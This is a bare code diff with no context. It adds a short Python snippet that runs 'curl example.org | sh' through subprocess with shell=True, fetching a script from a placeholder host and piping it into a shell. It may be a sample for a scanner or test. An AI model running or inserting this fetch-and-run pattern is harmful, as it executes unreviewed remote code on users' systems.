@@ -1,0 +1,5 @@
+import subprocess
+subprocess.run(
+    "curl example.org | sh",
+    shell=True,
+)
